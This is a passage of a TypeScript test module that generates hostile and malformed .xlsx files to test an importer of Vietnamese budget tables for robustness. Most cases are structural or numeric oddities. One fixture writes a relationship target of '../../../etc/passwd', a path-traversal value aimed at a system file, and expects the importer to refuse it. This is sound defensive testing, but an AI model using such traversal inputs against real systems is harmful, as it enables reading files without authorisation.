    { name: 'thieu-workbook-rels.xlsx', what: 'thiếu xl/_rels/workbook.xml.rels', expect: 'refused', build: drop(rels) },
    { name: 'thieu-workbook.xlsx', what: 'thiếu xl/workbook.xml', expect: 'refused', build: drop(workbook) },
    { name: 'thieu-trang-tinh.xlsx', what: 'thiếu phần trang tính mà workbook trỏ tới', expect: 'refused', build: drop(SHEET) },
    { name: 'thieu-rels-goc.xlsx', what: 'thiếu _rels/.rels', expect: 'either', build: drop('_rels/.rels') },
    { name: 'content-type-sai.xlsx', what: 'trang tính khai là image/png', expect: 'either', build: () => editParts(editXml(ct, (xml) => xml.replace(/(PartName="\/xl\/worksheets\/sheet1.xml" ContentType=")[^"]+/, '$1image/png'))) },
    { name: 'content-type-rong.xlsx', what: '[Content_Types].xml rỗng', expect: 'either', build: () => editParts((parts) => void parts.set(ct, Buffer.alloc(0))) },
    { name: 'workbook-khong-trang.xlsx', what: 'workbook.xml không có trang tính nào', expect: 'refused', build: () => editParts(editXml(workbook, (xml) => xml.replace(/<sheets>[\s\S]*<\/sheets>/, '<sheets/>'))) },
    { name: 'rels-tro-sai.xlsx', what: 'quan hệ trỏ tới trang tính không có', expect: 'refused', build: () => editParts(editXml(rels, (xml) => xml.replace('worksheets/sheet1.xml', 'worksheets/sheet9.xml'))) },
    { name: 'rels-tuyet-doi.xlsx', what: 'quan hệ trỏ bằng đường dẫn tuyệt đối /xl/worksheets/sheet1.xml', expect: 'either', build: () => editParts(editXml(rels, (xml) => xml.replace('Target="worksheets/sheet1.xml"', 'Target="/xl/worksheets/sheet1.xml"'))) },
    { name: 'rels-thoat-thu-muc.xlsx', what: 'quan hệ trỏ ra ngoài "../../../etc/passwd"', expect: 'refused', build: () => editParts(editXml(rels, (xml) => xml.replace('Target="worksheets/sheet1.xml"', 'Target="../../../etc/passwd"'))) },
    { name: 'sheet-thieu-rid.xlsx', what: 'trang tính trong workbook.xml thiếu r:id', expect: 'refused', build: () => editParts(editXml(workbook, (xml) => xml.replace(/ r:id="rId\d+"/, ''))) },
    {
      name: 'hai-trang-mot-phan.xlsx',
      what: 'hai trang tính cùng trỏ tới một phần',
      expect: 'either',
      build: () => editParts(editXml(workbook, (xml) => xml.replace(/(<sheet [^>]*\/>)/, '$1<sheet sheetId="2" name="Bản sao" state="visible" r:id="rId4"/>'))),
    },
    { name: 'trang-an.xlsx', what: 'trang tính duy nhất bị ẩn (veryHidden)', expect: 'refused', build: () => editParts(editXml(workbook, (xml) => xml.replace('state="visible"', 'state="veryHidden"'))) },
    { name: 'trang-xml-hong.xlsx', what: 'trang tính không phải XML hợp lệ', expect: 'refused', build: () => editParts(editXml(SHEET, (xml) => xml.slice(0, Math.floor(xml.length / 2)))) },
    { name: 'chuoi-chung-xml-hong.xlsx', what: 'sharedStrings.xml thiếu thẻ đóng cuối (dữ liệu vẫn đủ)', expect: 'either', build: () => editParts(editXml(STRINGS, (xml) => xml.replace('</sst>', ''))) },
    { name: 'styles-xml-hong.xlsx', what: 'styles.xml là rác', expect: 'either', build: () => editParts((parts) => void parts.set('xl/styles.xml', Buffer.from('<<<>>>'))) },
  ];
}

/** Sheet XML oddities: rows and cell references no writer produces. */
function sheetXmlCases(): HostileFile[] {
  const sheetEdit = (change: (xml: string) => string): HostileFile['build'] => () => editParts(editXml(SHEET, change));
  const rowOf = (xml: string, r: number) => new RegExp(`<row r="${r}"[^>]*>[\\s\\S]*?</row>`).exec(xml)![0];
  const emptyRows = Array.from({ length: 10_000 }, (_, i) => `<row r="${i + 8}"/>`).join('');
  const shiftRows = (xml: string, by: number) =>
    xml
      .replace(/<row r="(\d+)"/g, (m, r: string) => (Number(r) >= 8 ? `<row r="${Number(r) + by}"` : m))
      .replace(/<c r="([A-Z]+)(\d+)"/g, (m, c: string, r: string) => (Number(r) >= 8 ? `<c r="${c}${Number(r) + by}"` : m));
  return [
    {
      name: 'dong-nguoc-thu-tu.xlsx',
      what: 'các dòng ghi ngược thứ tự',
      expect: 'either',
      build: sheetEdit((xml) => xml.replace(/<sheetData>([\s\S]*)<\/sheetData>/, (_m, rows: string) => `<sheetData>${(rows.match(/<row [\s\S]*?<\/row>/g) ?? []).reverse().join('')}</sheetData>`)),
    },
    { name: 'dong-trung-so.xlsx', what: 'dòng 15 ghi hai lần', expect: 'either', build: sheetEdit((xml) => xml.replace(rowOf(xml, 15), rowOf(xml, 15).repeat(2))) },
    { name: 'o-a0.xlsx', what: 'ô có địa chỉ A0', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="A0"><v>3250</v></c>')) },
    { name: 'o-zzzz1.xlsx', what: 'ô có địa chỉ ZZZZ1 (quá cột XFD)', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="ZZZZ1"><v>3250</v></c>')) },
    { name: 'o-xfe.xlsx', what: 'ô có địa chỉ XFE15', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="XFE15"><v>3250</v></c>')) },
    { name: 'o-dong-qua-gioi-han.xlsx', what: 'ô D1048577 (quá dòng cuối)', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="D1048577"><v>3250</v></c>')) },
    { name: 'o-khong-dia-chi.xlsx', what: 'ô không có thuộc tính r', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c><v>3250</v></c>')) },
    { name: 'o-dia-chi-rac.xlsx', what: 'ô có địa chỉ "abc"', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="abc"><v>3250</v></c>')) },
    { name: 'dong-so-0.xlsx', what: 'dòng r="0"', expect: 'either', build: sheetEdit((xml) => xml.replace('<row r="15"', '<row r="0"')) },
    { name: 'dong-so-am.xlsx', what: 'dòng r="-3"', expect: 'either', build: sheetEdit((xml) => xml.replace('<row r="15"', '<row r="-3"')) },
    { name: 'dong-so-rac.xlsx', what: 'dòng r="mười lăm"', expect: 'either', build: sheetEdit((xml) => xml.replace('<row r="15"', '<row r="mười lăm"')) },
    { name: 'chuoi-chung-ngoai-pham-vi.xlsx', what: 'ô trỏ tới chuỗi chung số 99999', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'B15', '<c r="B15" t="s"><v>99999</v></c>')) },
    { name: 'chuoi-chung-am.xlsx', what: 'ô trỏ tới chuỗi chung số -1', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'B15', '<c r="B15" t="s"><v>-1</v></c>')) },
    { name: 'so-khong-phai-so.xlsx', what: 'ô kiểu số có giá trị "abc"', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="D15"><v>abc</v></c>')) },
    { name: 'so-1e400.xlsx', what: 'ô kiểu số có giá trị 1e400 (vô cực)', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="D15"><v>1e400</v></c>')) },
    { name: 'so-nan.xlsx', what: 'ô kiểu số có giá trị NaN', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="D15"><v>NaN</v></c>')) },
    { name: 'bool-2.xlsx', what: 'ô kiểu logic có giá trị 2', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="D15" t="b"><v>2</v></c>')) },
    { name: 'loi-la.xlsx', what: 'ô kiểu lỗi có giá trị #BOGUS!', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="D15" t="e"><v>#BOGUS!</v></c>')) },
    { name: 'ngay-rac.xlsx', what: 'ô kiểu ngày (t="d") có giá trị "không phải ngày"', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="D15" t="d"><v>không phải ngày</v></c>')) },
    { name: 'kieu-o-la.xlsx', what: 'ô có kiểu t="zzz"', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="D15" t="zzz"><v>3250</v></c>')) },
    { name: 'inline-str.xlsx', what: 'số tiền ghi dạng inlineStr có rich text', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="D15" t="inlineStr"><is><r><t>3.2</t></r><r><t>50</t></r></is></c>')) },
    { name: 'style-ngoai-pham-vi.xlsx', what: 'ô dùng kiểu định dạng số 99999', expect: 'either', build: sheetEdit((xml) => replaceCell(xml, 'D15', '<c r="D15" s="99999"><v>3250</v></c>')) },
    { name: 'dimension-sai.xlsx', what: 'dimension ghi A1:XFD1048576', expect: 'either', build: sheetEdit((xml) => xml.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>')) },
    { name: 'cot-an-rat-rong.xlsx', what: 'khai báo cột ẩn min=1 max=4294967295', expect: 'either', build: sheetEdit((xml) => xml.replace('<cols>', '<cols><col min="1" max="4294967295" hidden="1"/>')) },
    { name: '10000-dong-trong.xlsx', what: '10 000 dòng trống rồi mới đến bảng', expect: 'either', build: sheetEdit((xml) => shiftRows(xml, 10_000).replace(/(<row r="7"[\s\S]*?<\/row>)/, `$1${emptyRows}`)) },
    {
      name: '10000-dong-trong-sau-bang.xlsx',
      what: '10 000 dòng trống xen giữa bảng và phần ký',
      expect: 'either',
      build: sheetEdit((xml) => xml.replace(/(<row r="24"[\s\S]*?<\/row>)/, `$1${Array.from({ length: 10_000 }, (_, i) => `<row r="${i + 25}" hidden="1"/>`).join('')}`).replace(/<row r="26"/, '<row r="10026"').replace(/r="F26"/, 'r="F10026"').replace(/<row r="27"/, '<row r="10027"').replace(/r="F27"/, 'r="F10027"')),
    },
    { name: 'sheetdata-rong.xlsx', what: 'trang tính không có ô nào', expect: 'refused', build: sheetEdit((xml) => xml.replace(/<sheetData>[\s\S]*<\/sheetData>/, '<sheetData/>')) },
  ];
}

/**
 * 9·10^9 triệu (9·10^15 đồng, just under 2^53) in column D of `rows`, with the subtotals above them and the rows'
 * total column cleared, so no arithmetic check trips and only the sums overflow.
 */
function overflowWithoutSubtotals(sheet: ExcelJS.Worksheet, rows: number[], subtotalRows: number[]): void {
  for (const r of rows) {
    sheet.getCell(`D${r}`).value = 9e9;
    sheet.getCell(`C${r}`).value = null;
  }
  for (const r of subtotalRows) for (const c of ['C', 'D']) sheet.getCell(`${c}${r}`).value = null;
}

/** Province-style tables whose content is adversarial rather than their XML. */
function semanticCases(): HostileFile[] {
  const rows = (change: (rows: TableRow[]) => void): TableRow[] => {
    const copy = structuredClone(TRANG_DINH_2024);
    change(copy);
    return copy;
  };
  const wide = async (columns: number) => {
    const book = await loadBase();
    const sheet = book.worksheets[0]!;
    for (let c = 9; c <= columns; c++) {
      sheet.getCell(5, c).value = `Ngân sách ${c % 2 ? 'trung ương' : 'tỉnh'} cột ${c}`;
      sheet.getCell(6, c).value = c % 3 ? 'Vốn đầu tư phát triển' : 'Vốn sự nghiệp';
      for (const r of DETAIL_ROWS) sheet.getCell(r, c).value = c;
    }
    return Buffer.from(await book.xlsx.writeBuffer());
  };
  const deep = (): TableRow[] => {
    const styles = ['I', '1', 'a', '-', '+', '*', '1.1', '1.1.1', '1.1.1.1', 'A'];
    let leaf: TableRow = { stt: '-', name: 'Hỗ trợ nhà ở', amounts: [null, 100, null, null] };
    for (let depth = 0; depth < 50; depth++) leaf = { stt: styles[depth % styles.length]!, name: `Cấp ${depth}`, children: [leaf] };
    return [{ stt: 'I', name: 'Chương trình MTQG giảm nghèo bền vững', children: [{ stt: '1', name: 'Dự án 5: Hỗ trợ nhà ở cho hộ nghèo, hộ cận nghèo', children: [leaf] }] }];
  };
  const duplicated = (): TableRow[] => [
    { stt: 'I', name: 'Chương trình MTQG xây dựng nông thôn mới', children: [{ stt: '1', name: 'Nội dung thành phần 2: Phát triển hạ tầng kinh tế - xã hội', children: Array.from({ length: 1000 }, () => ({ stt: '-', name: 'Đường thôn Nà Pàn', amounts: [1, null, null, null] as TableRow['amounts'] })) }] },
  ];
  const workbook = (name: string, what: string, options: Parameters<typeof provinceWorkbook>[0], expect: HostileFile['expect'] = 'either'): HostileFile => ({ name, what, expect, build: () => provinceWorkbook(options) });
  return [
    workbook('ten-hai-chuong-trinh.xlsx', 'một dòng mang tên hai chương trình', { rows: rows((r) => (r[1]!.name = 'Chương trình MTQG giảm nghèo bền vững và Chương trình MTQG xây dựng nông thôn mới')) }),
    workbook('ten-hai-du-an.xlsx', 'một dòng ghi "Dự án 1, Dự án 4: …"', { rows: rows((r) => (r[0]!.children![0]!.name = 'Dự án 1, Dự án 4: Tiểu dự án 2, Nội dung 3')) }),
    workbook('so-tien-am.xlsx', 'số tiền âm ở dòng chi tiết', { rows: rows((r) => (r[2]!.children![0]!.amounts = [-5000, null, -500, null])) }),
    workbook('so-tien-10-15-trieu.xlsx', '10^15 triệu đồng (vượt số nguyên an toàn khi đổi ra đồng)', { rows: rows((r) => (r[2]!.children![0]!.amounts = [1e15, null, 500, null])) }, 'refused'),
    workbook('so-tien-tong-tran.xlsx', 'mỗi dòng 9 tỷ triệu: tổng vượt số nguyên an toàn', { rows: rows((r) => r[2]!.children!.forEach((c) => (c.amounts = [9e9, null, 9e9, null]))) }, 'refused'),
    {
      name: 'tong-tran-khong-tong-phu.xlsx',
      what: 'hai dòng 9 tỷ triệu ở hai hợp phần, không có tổng phụ: tổng tệp vượt số nguyên an toàn',
      expect: 'refused',
      build: () => editCells((sheet) => overflowWithoutSubtotals(sheet, [23, 24], [8, 22])),
    },
    {
      name: 'dong-von-tran-khong-tong-phu.xlsx',
      what: 'hai dòng 9 tỷ triệu cùng một hợp phần, không có tổng phụ: một dòng vốn vượt số nguyên an toàn',
      expect: 'refused',
      build: () => editCells((sheet) => overflowWithoutSubtotals(sheet, [15, 16], [8, 9, 13, 14])),
    },
    workbook('so-tien-12-so-le.xlsx', 'số tiền có 12 chữ số thập phân', { rows: rows((r) => (r[2]!.children![0]!.amounts = [5000.123456789012, null, 500, null])) }),
    workbook('so-tien-chu.xlsx', 'số tiền ghi bằng chữ', { rows: rows((r) => (r[2]!.children![0]!.amounts = ['năm nghìn', null, 'năm trăm', null])) }),
    workbook('nam-1900.xlsx', 'năm kế hoạch 1900', { year: 1900 }),
    workbook('nam-9999.xlsx', 'năm kế hoạch 9999', { year: 9999 }),
    workbook('huyen-tinh-khac.xlsx', 'huyện của tỉnh khác (Huyện Mèo Vạc)', { district: 'Mèo Vạc' }),
    workbook('cap-long-50.xlsx', '50 cấp STT lồng nhau', { rows: deep() }),
    workbook('1000-dong-trung.xlsx', '1 000 dòng giống hệt nhau', { rows: duplicated() }, 'refused'),
    workbook('bang-rong.xlsx', 'bảng không có dòng nào', { rows: [] }, 'refused'),
    workbook('an-het-dong.xlsx', 'mọi dòng chi tiết đều ẩn', { rows: rows((r) => r.forEach(function hide(row: TableRow) { row.hidden = true; row.children?.forEach(hide); })) }),
    workbook('ten-trang-trung-ma-tcvn3.xlsx', 'tiêu đề TCVN3 mà thân bảng Unicode', { legacy: 'tcvn3', rows: rows((r) => (r[2]!.name = 'Chương trình MTQG xây dựng nông thôn mới')) }),
    { name: 'bang-300-cot.xlsx', what: 'bảng có 300 cột', expect: 'either', build: () => wide(300) },
    {
      name: 'tieu-de-ngoai-60-dong.xlsx',
      what: 'dòng tiêu đề STT nằm ở dòng 68 (ngoài 60 dòng đầu)',
      expect: 'refused',
      build: () => editParts(editXml(SHEET, (xml) => xml.replace(/<row r="(\d+)"/g, (_m, r: string) => `<row r="${Number(r) + 63}"`).replace(/<c r="([A-Z]+)(\d+)"/g, (_m, c: string, r: string) => `<c r="${c}${Number(r) + 63}"`).replace(/<mergeCells[\s\S]*?<\/mergeCells>/, ''))),
    },
    {
      name: 'hai-dong-tieu-de.xlsx',
      what: 'hai dòng tiêu đề STT (bảng lặp lại tiêu đề giữa chừng)',
      expect: 'either',
      build: () => editCells((sheet) => ['STT', 'Nội dung', 'Tổng số', 'Vốn đầu tư phát triển', 'Vốn sự nghiệp', 'Vốn ĐTPT', 'Vốn SN'].forEach((label, i) => (sheet.getCell(18, i + 1).value = label))),
    },
    {
      name: 'hai-dong-tong.xlsx',
      what: 'hai dòng TỔNG SỐ',
      expect: 'either',
      build: () => editCells((sheet) => (sheet.getCell('B25').value = 'TỔNG SỐ')),
    },
    {
      name: 'chu-ky-truoc-bang.xlsx',
      what: 'khối chữ ký "KT. CHỦ TỊCH" chen giữa bảng',
      expect: 'either',
      build: () => editCells((sheet) => (sheet.getCell('B17').value = 'KT. CHỦ TỊCH')),
    },
    {
      name: 'khong-don-vi-tinh.xlsx',
      what: 'không có dòng "Đơn vị tính"',
      expect: 'refused',
      build: () => editCells((sheet) => (sheet.getCell('G4').value = null)),
    },
    {
      name: 'don-vi-tinh-ty.xlsx',
      what: 'đơn vị tính "tỷ đồng"',
      expect: 'either',
      build: () => editCells((sheet) => (sheet.getCell('G4').value = 'Đơn vị tính: tỷ đồng')),
    },
    {
      name: 'hai-trang-co-bang.xlsx',
      what: 'hai trang tính cùng có bảng, trang đầu bị ẩn',
      expect: 'either',
      build: async () => {
        const book = await loadBase();
        const copy = book.addWorksheet('Bản sao');
        book.worksheets[0]!.eachRow((row, r) => row.eachCell((cell, c) => (copy.getCell(r, c).value = cell.value)));
        book.worksheets[0]!.state = 'hidden';
        return Buffer.from(await book.xlsx.writeBuffer());
      },
    },
  ];
}

/** Not workbooks at all, named .xlsx. */
function disguiseCases(): HostileFile[] {
  const file = (name: string, what: string, bytes: Buffer): HostileFile => ({ name, what, expect: 'refused', build: async () => bytes });
  return [
    file('html.xlsx', 'trang HTML', Buffer.from('<html><body><table><tr><td>STT</td></tr></table></body></html>')),
    file('csv.xlsx', 'văn bản CSV', Buffer.from('STT,Nội dung,Số tiền\n1,Dự án,100\n')),
    file('pdf.xlsx', 'tài liệu PDF', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n')),
    file('cfb.xlsx', 'tệp OLE2 (Excel 97-2003) rỗng', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)])),
    file('zip-rong.xlsx', 'tệp zip rỗng', rawZip([])),
    file('utf16-text.xlsx', 'văn bản UTF-16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('STT\tNội dung\r\n', 'utf16le')])),
    file('nhi-phan-ngau-nhien.xlsx', 'byte ngẫu nhiên', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256))),
  ];
}

// -------------------------------------------------------------------------------------------------------------
// Sheet ids and formulas of real province files (issue 18): Excel keeps a sheet's id when sheets are deleted, moved or
// copied, so ids, part names and order all differ; generators write formulas without a cached value, or with 0.

const CT = '[Content_Types].xml';
const WORKBOOK = 'xl/workbook.xml';
const WORKBOOK_RELS = 'xl/_rels/workbook.xml.rels';
const WORKSHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml';
const WORKSHEET_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet';

interface SheetLayoutCase {
  /** The table's part number (xl/worksheets/sheetN.xml) and its sheetId. */
  part: number;
  sheetId: string;
  /** Other sheets: their part number, sheetId, name, and whether they come before the table in workbook.xml. */
  others: { part: number; sheetId: string; name: string; before: boolean }[];
}

/** The fixture's one sheet laid out as `layout` says, with empty or copied other sheets beside it. */
function sheetLayout(layout: SheetLayoutCase): PartEdit {
  return (parts) => {
    const table = parts.get(SHEET)!;
    parts.delete(SHEET);
    parts.set(`xl/worksheets/sheet${layout.part}.xml`, table);
    const sheetXml = (id: string, name: string, rId: string) => `<sheet sheetId="${id}" name="${name}" state="visible" r:id="${rId}"/>`;
    const entries: string[] = [sheetXml(layout.sheetId, 'Biểu 01', 'rId4')];
    let rels = text(parts, WORKBOOK_RELS).replace('Target="worksheets/sheet1.xml"', `Target="worksheets/sheet${layout.part}.xml"`);
    let types = text(parts, CT).replace('PartName="/xl/worksheets/sheet1.xml"', `PartName="/xl/worksheets/sheet${layout.part}.xml"`);
    layout.others.forEach((o, i) => {
      const rId = `rId${20 + i}`;
      // An empty sheet, or (every other one) a copy of the table with its amounts doubled: the wrong sheet must not be read as the table.
      const body = i % 2 === 0 ? table.toString('utf8').replace(/<sheetData>[\s\S]*<\/sheetData>/, '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Ghi chú</t></is></c></row></sheetData>').replace(/<mergeCells[\s\S]*?<\/mergeCells>/, '') : table.toString('utf8').replace(/<v>(\d+(?:\.\d+)?)<\/v>/g, (_m, v: string) => `<v>${Number(v) * 2}</v>`);
      parts.set(`xl/worksheets/sheet${o.part}.xml`, Buffer.from(body, 'utf8'));
      rels = rels.replace('</Relationships>', `<Relationship Id="${rId}" Type="${WORKSHEET_REL}" Target="worksheets/sheet${o.part}.xml"/></Relationships>`);
      types = types.replace('</Types>', `<Override PartName="/xl/worksheets/sheet${o.part}.xml" ContentType="${WORKSHEET_TYPE}"/></Types>`);
      const entry = sheetXml(o.sheetId, o.name, rId);
      if (o.before) entries.unshift(entry);
      else entries.push(entry);
    });
    setText(parts, WORKBOOK_RELS, rels);
    setText(parts, CT, types);
    setText(parts, WORKBOOK, text(parts, WORKBOOK).replace(/<sheets>[\s\S]*<\/sheets>/, `<sheets>${entries.join('')}</sheets>`));
  };
}

/** Formulas rewritten as a generator writes them: `cached` says what becomes of each formula's stored value. */
function formulaValues(cached: (value: string, index: number) => string | null): PartEdit {
  return editXml(SHEET, (xml) => {
    let index = 0;
    return xml.replace(/(<f>[^<]*<\/f>)<v>([^<]*)<\/v>/g, (_m, f: string, v: string) => {
      const value = cached(v, index++);
      return value === null ? f : `${f}<v>${value}</v>`;
    });
  });
}

/** Subtotal cells of the fixture (formulas over detail rows), where a formula of another form can stand. */
const SUBTOTAL_CELLS = ['D9', 'E9', 'F9', 'G9', 'D17', 'E17', 'D22', 'E22'];
const FORMULA_FORMS = [
  (ref: string) => `SUBTOTAL(9,${ref[0]}10:${ref[0]}16)`,
  (ref: string) => `ROUND(SUM(${ref[0]}10:${ref[0]}16),0)`,
  (ref: string) => `'Biểu 01'!${ref[0]}11+'Biểu 01'!${ref[0]}12`,
  (ref: string) => `${ref[0]}11-${ref[0]}12+0`,
  (ref: string) => `SUM(${ref[0]}:${ref[0]})`,
  (ref: string) => `Sheet9!${ref}`,
  (ref: string) => `INDIRECT("${ref}")`,
  (ref: string) => `${ref}`,
];

function sheetIdAndFormulaCases(): HostileFile[] {
  const either = (name: string, what: string, edit: PartEdit): HostileFile => ({ name, what, expect: 'either', build: () => editParts(edit) });
  return [
    either('sheet-id-5.xlsx', 'trang duy nhất có sheetId="5" (phần sheet1.xml)', editXml(WORKBOOK, (xml) => xml.replace('sheetId="1"', 'sheetId="5"'))),
    either('sheet-phan-7-id-3.xlsx', 'trang nằm ở phần sheet7.xml với sheetId="3"', sheetLayout({ part: 7, sheetId: '3', others: [] })),
    either('sheet-id-hoan-doi.xlsx', 'hai trang có sheetId đổi chỗ cho số phần', sheetLayout({ part: 1, sheetId: '2', others: [{ part: 2, sheetId: '1', name: 'Ghi chú', before: true }] })),
    either('sheet-xoa-giua.xlsx', 'trang giữa đã xoá: phần sheet1 và sheet3, id 1 và 3', sheetLayout({ part: 3, sheetId: '3', others: [{ part: 1, sheetId: '1', name: 'Bìa', before: true }] })),
    either('sheet-ban-sao-gap-doi.xlsx', 'bản sao của bảng (số gấp đôi) đứng trước, id lớn hơn', sheetLayout({ part: 2, sheetId: '4', others: [{ part: 1, sheetId: '9', name: 'Bản sao', before: true }, { part: 5, sheetId: '2', name: 'Trống', before: false }] })),
    either('cong-thuc-gia-tri-0.xlsx', 'mọi công thức có giá trị lưu sẵn là 0 (như xlsxwriter)', formulaValues(() => '0')),
    either('cong-thuc-mot-tong-khong-gia-tri.xlsx', 'một tổng phụ không có giá trị lưu sẵn', formulaValues((v, i) => (i === 3 ? null : v))),
    either('cong-thuc-tham-chieu-trang.xlsx', 'tổng phụ D9 tham chiếu trang khác (ghi tên trang)', editXml(SHEET, (xml) => replaceCell(xml, 'D9', `<c r="D9" s="2"><f>'Biểu 01'!D11+'Biểu 01'!D12</f></c>`))),
  ];
}

/**
 * Files generated from the seed for the bench's count (reliability.hostile_files): sheet layouts, formula forms and
 * cached values, and cell fuzz, each one deterministic. The unit tests run the fixed corpus only.
 */
function generatedCases(seed: number, count: number): HostileFile[] {
  const next = random(seed);
  const pick = <T,>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!;
  const int = (max: number) => Math.floor(next() * max);
  const files: HostileFile[] = [];
  for (let i = 0; i < count; i++) {
    const name = (kind: string) => `sinh-${String(i).padStart(4, '0')}-${kind}.xlsx`;
    switch (i % 4) {
      case 0: {
        const ids = ['0', '1', '2', '5', '99', '4294967295', '-1', 'x'];
        const others = Array.from({ length: int(3) }, (_, k) => ({ part: 2 + k + int(3) * 3, sheetId: pick(ids), name: `Trang ${k + 2}`, before: next() < 0.5 }));
        const part = 1 + int(12);
        const layout = { part: others.some((o) => o.part === part) ? 40 + i : part, sheetId: pick(ids), others };
        files.push({ name: name('sheet-id'), what: `bảng ở phần sheet${layout.part}.xml, sheetId="${layout.sheetId}", ${others.length} trang khác`, expect: 'either', build: () => editParts(sheetLayout(layout)) });
        break;
      }
      case 1: {
        const mode = pick(['none', 'zero', 'one-none', 'one-zero', 'wrong'] as const);
        const which = int(12);
        const cached = (v: string, k: number): string | null => {
          if (mode === 'none') return null;
          if (mode === 'zero') return '0';
          if (k !== which) return v;
          return mode === 'one-none' ? null : mode === 'one-zero' ? '0' : String(Number(v) + 1);
        };
        files.push({ name: name('gia-tri-cong-thuc'), what: `giá trị lưu sẵn của công thức: ${mode} (công thức thứ ${which})`, expect: 'either', build: () => editParts(formulaValues(cached)) });
        break;
      }
      case 2: {
        const ref = pick(SUBTOTAL_CELLS);
        const form = pick(FORMULA_FORMS)(ref);
        const value = next() < 0.5 ? '' : `<v>${pick(['0', '3250', '-1', '1e308'])}</v>`;
        const cell = `<c r="${ref}" s="2"><f>${form.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;')}</f>${value}</c>`;
        files.push({ name: name('dang-cong-thuc'), what: `ô ${ref} có công thức =${form}${value ? ` và giá trị ${value}` : ' không có giá trị'}`, expect: 'either', build: () => editParts(editXml(SHEET, (xml) => (new RegExp(`<c r="${ref}"`).test(xml) ? replaceCell(xml, ref, cell) : xml))) });
        break;
      }
      default: {
        const weird = pick(WEIRD_VALUES);
        const ref = `${pick(TABLE_COLUMNS)}${pick(DETAIL_ROWS)}`;
        files.push({ name: name('o'), what: `ô ${ref} chứa ${weird.label}`, expect: 'either', build: () => editCells((sheet) => (sheet.getCell(ref).value = weird.value)) });
      }
    }
  }
  return files;
}

/**
 * The whole corpus (at least 200 files), the same for the same seed; each file is built only when asked. `generated`
 * adds that many files generated from the seed (the bench asks for enough to pass 1,000).
 */
export function hostileCorpus(seed = 2024_10_03, options: { generated?: number } = {}): HostileFile[] {
  return [
    ...cellFuzzCases(seed, 100),
    ...injectionCases(),
    ...hugeStringCases(),
    ...mergeCases(),
    ...formulaCases(),
    ...bombCases(),
    ...entityCases(),
    ...encodingCases(),
    ...truncationCases(seed + 1),
    ...structureCases(),
    ...sheetXmlCases(),
    ...semanticCases(),
    ...disguiseCases(),
    ...sheetIdAndFormulaCases(),
    ...generatedCases(seed + 2, options.generated ?? 0),
  ];
}

// -------------------------------------------------------------------------------------------------------------
// Running one file

export interface HostileOutcome {
  analyzed: Result<ImportPreview> | null;
  committed: boolean;
  /** Empty when the import behaved: refused with a named reason, or imported a legitimate file. */
  problems: string[];
  ms: number;
}

const PER_FILE_TIMEOUT_MS = 20_000;
/** A Vietnamese letter no English or ASCII message has. */
const VIETNAMESE = /[ăâđêôơưạảấầẩẫậắằẳẵặẹẻẽếềểễệỉịọỏốồổỗộớờởỡợụủứừửữựỳỵỷỹáàãéèíìóòõúùý]/i;
const CELL_REF = /\b[A-Z]{1,3}[1-9]\d{0,6}\b/;

const rowCount = (core: Core, table: 'assignment' | 'exchange_log') => (core.db.prepare(`SELECT COUNT(*) AS n FROM ${table}`).get() as { n: number }).n;

async function withinTimeout<T>(what: string, run: () => Promise<T>): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  const timeout = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`${what}: quá ${PER_FILE_TIMEOUT_MS / 1000} giây (treo)`)), PER_FILE_TIMEOUT_MS);
  });
  try {
    return await Promise.race([run(), timeout]);
  } finally {
    clearTimeout(timer);
  }
}

function errorProblems(step: string, file: HostileFile, error: { code: string; message: string }): string[] {
  const problems: string[] = [];
  if (error.code === 'INTERNAL') problems.push(`${step}: lỗi nội bộ (INTERNAL): ${error.message}`);
  if (!VIETNAMESE.test(error.message)) problems.push(`${step}: thông báo không phải tiếng Việt: ${error.message}`);
  if (!error.message.includes(file.name) && !CELL_REF.test(error.message)) problems.push(`${step}: thông báo không nêu tên tệp hay ô: ${error.message}`);
  return problems;
}

/**
 * Analyze, then commit when the analysis allows it, on a real core; counts assignment and exchange_log rows around
 * each step, so a refused file that wrote anything is caught even when other files of the batch committed.
 */
export async function exerciseHostileFile(core: Core, file: HostileFile): Promise<HostileOutcome> {
  const started = performance.now();
  const problems: string[] = [];
  let analyzed: Result<ImportPreview> | null = null;
  let committed = false;
  const before = { assignment: rowCount(core, 'assignment'), exchange: rowCount(core, 'exchange_log') };
  const wrote = () => rowCount(core, 'assignment') !== before.assignment || rowCount(core, 'exchange_log') !== before.exchange;
  try {
    const base64 = (await file.build()).toString('base64');
    analyzed = await withinTimeout('import.analyze', () => core.invokeAsync('import.analyze', { fileName: file.name, base64, year: 2024 }));
    if (wrote()) problems.push('import.analyze đã ghi vào sổ');
    if (!analyzed.ok) {
      problems.push(...errorProblems('import.analyze', file, analyzed.error));
    } else {
      const preview = analyzed.value;
